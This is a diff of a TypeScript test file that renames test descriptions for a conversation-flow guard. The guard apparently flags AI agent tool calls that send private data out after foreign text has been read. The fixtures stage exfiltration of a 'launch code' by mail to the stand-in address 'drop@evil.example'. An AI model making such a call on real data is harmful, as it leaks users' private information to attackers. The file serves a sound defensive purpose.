@@ -29,7 +29,7 @@ function conversation(): ConversationFlow {
   return flow;
 }
 
-describe('a call that sends out', () => {
+describe('a call that sends data out', () => {
   it('is a concern once private data and foreign text have been read', () => {
     const concern = conversation().concern(out('web', { text: 'hello' }));
     expect(concern).toMatchObject({
@@ -41,7 +41,7 @@ describe('a call that sends out', () => {
   });
 
   it.each<readonly Label[]>([['private'], ['foreign'], []])(
-    'is none with only %j read',
+    'is no concern with only %j read',
     (...read) => {
       const flow = new ConversationFlow();
       flow.add({ server: 's', tool: 't', labels: set(...read), text: 'something' });
@@ -49,7 +49,7 @@ describe('a call that sends out', () => {
     },
   );
 
-  it('shows which pieces of its arguments were read where', () => {
+  it('shows the pieces of its arguments with their sources', () => {
     const { taken } = conversation().concern(
       out('mail', {
         to: 'drop@evil.example',
@@ -68,7 +68,7 @@ describe('a call that sends out', () => {
     expect(taken.map(({ text }) => text)).toContain('The launch code is 4711-0815');
   });
 
-  it('is none where the person wrote all of what leaves', () => {
+  it('is no concern if the person wrote all of what leaves', () => {
     const flow = conversation();
     flow.typed('open https://news.example/today and tell me');
     expect(flow.concern(out('web', { url: 'https://news.example/today' }))).toBeUndefined();
@@ -76,7 +76,7 @@ describe('a call that sends out', () => {
     expect(flow.concern(out('web', { url: 'news.example', text: 'hello' }))).toBeDefined();
   });
 
-  it('shows nothing as taken that the person wrote', () => {
+  it('does not show text of the person as taken', () => {
     const flow = conversation();
     flow.typed('send it to drop@evil.example please');
     expect(flow.taken({ to: 'drop@evil.example' })).toEqual([]);
@@ -90,7 +90,7 @@ describe('a call that only reads', () => {
     sendsOut: false,
   });
 
-  it('is a concern where it carries private text to another server', () => {
+  it('is a concern if it carries private text to another server', () => {
     const said = 'note: The launch code is 4711-0815 and the meeting';
     expect(conversation().concern(read('weather', said))).toMatchObject({
       why: 'carries-private',
@@ -99,12 +99,12 @@ describe('a call that only reads', () => {
     expect(conversation().concern(read('files', said))).toBeUndefined();
   });
 
-  it('is none with a search term', () => {
+  it('is no concern with a search term', () => {
     expect(conversation().concern(read('weather', 'Friday at noon'))).toBeUndefined();
   });
 });
 
-describe('what a conversation keeps', () => {
+describe("the memory of a conversation's flow", () => {
   it('is bounded, and never forgets a label', () => {
     const flow = new ConversationFlow();
     flow.add({ server: 'mail', tool: 't', labels: set('foreign'), text: 'x'.repeat(200_000) });
@@ -124,7 +124,7 @@ describe('what a conversation keeps', () => {
     expect(flow.concern(out('web', {}))).toMatchObject({ foreign: { server: 'mail' } });
   });
 
-  it('goes on from a snapshot', () => {
+  it('continues from a snapshot', () => {
     const { snapshot } = conversation();
     const again = ConversationFlow.from(structuredClone(snapshot));
     expect(again.sources).toEqual(conversation().sources);
